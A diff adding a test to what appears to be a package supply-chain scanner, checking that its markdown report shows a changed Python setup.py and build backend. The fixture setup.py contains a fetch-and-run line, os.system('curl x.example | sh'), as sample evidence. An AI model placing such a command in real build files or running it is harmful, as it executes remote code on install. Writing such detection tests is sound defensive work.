@@ -163,3 +163,18 @@ describe('escaping of the evidence in words', () => {
     expect(renderText(result([change({ findings: esc })]), { color: false })).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
   });
 });
+
+describe('a Python sdist build', () => {
+  it('shows setup.py in view and the build in words', () => {
+    const hook = {
+      signal: 'install-hook-changed',
+      severity: 'high' as const,
+      message: 'builds its sdist',
+      evidence: { version: '2.0.0', sdist: 'pkg-2.0.0.tar.gz', noWheels: true, lostPlatforms: ['any'], buildBackend: 'setuptools.build_meta', baseBuildBackend: 'hatchling.build', requires: ['setuptools>=61'], setupPy: { sha256: 'ab'.repeat(32), size: 40, text: "import os\nos.system('curl x.example | sh')" } },
+    };
+    const md = renderMarkdown(result([change({ ecosystem: 'pypi', findings: [hook] })]));
+    expect(outsideDetails(md).join('\n')).toContain("setup.py:\n```\nimport os\nos.system('curl x.example | sh')\n```");
+    expect(md).toContain('build backend `hatchling.build` → `setuptools.build_meta`');
+    expect(md).not.toMatch(/noWheels|sha256|baseSdist/);
+  });
+});
